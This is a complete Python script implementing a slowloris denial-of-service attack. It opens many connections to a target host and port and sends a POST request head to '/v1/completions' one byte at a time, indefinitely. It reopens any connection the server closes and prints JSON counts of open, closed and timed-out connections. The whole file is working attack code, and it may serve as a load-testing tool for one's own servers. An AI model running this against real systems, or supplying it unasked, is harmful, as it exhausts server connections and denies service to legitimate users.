"""A slowloris attack, as a program: ``python slowloris.py HOST PORT CONNECTIONS INTERVAL``.

Every connection sends a request head one byte each INTERVAL seconds, for ever; one that is closed is opened anew. What
happens is printed, a line of JSON a second: connections open now, closed by the other end so far, with a 408 or not.
The attack ends when standard input does.
"""

import contextlib
import heapq
import json
import resource
import select
import socket
import sys
import time

HEAD = b"POST /v1/completions HTTP/1.1\r\nHost: g\r\nX-Slow: " + b"a" * 100_000
BATCH = 100  # connections opened between two looks at those there are


def main(host: str, port: int, count: int, interval: float) -> None:
    """Attack."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    poll = select.epoll()
    poll.register(sys.stdin.fileno(), select.EPOLLIN | select.EPOLLHUP)
    sockets: dict[int, socket.socket] = {}
    sent: dict[int, int] = {}
    due: list[tuple[float, int, socket.socket]] = []
    closed = timed_out = 0
    report = time.monotonic()

    def end(sock: socket.socket) -> None:
        nonlocal closed, timed_out
        with contextlib.suppress(OSError):
            timed_out += b" 408 " in sock.recv(4096)
        closed += 1
        fd = sock.fileno()
        poll.unregister(fd)
        del sockets[fd], sent[fd]
        sock.close()

    while True:
        now = time.monotonic()
        for _ in range(min(BATCH, count - len(sockets))):
            sock = socket.create_connection((host, port), timeout=10)
            sock.setblocking(False)
            poll.register(sock.fileno(), select.EPOLLIN)
            sockets[sock.fileno()] = sock
            sent[sock.fileno()] = 0
            heapq.heappush(due, (now, sock.fileno(), sock))
        while due and due[0][0] <= now:
            _, fd, sock = heapq.heappop(due)
            if sockets.get(fd) is not sock:
                continue
            try:
                sock.send(HEAD[sent[fd] : sent[fd] + 1])
            except OSError:
                end(sock)
                continue
            sent[fd] += 1
            heapq.heappush(due, (now + interval, fd, sock))
        for fd, _ in poll.poll(0.01):
            if fd == sys.stdin.fileno():
                return
            if fd in sockets:
                end(sockets[fd])
        if now >= report:
            report = now + 1
            print(json.dumps({"open": len(sockets), "closed": closed, "timed_out": timed_out}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
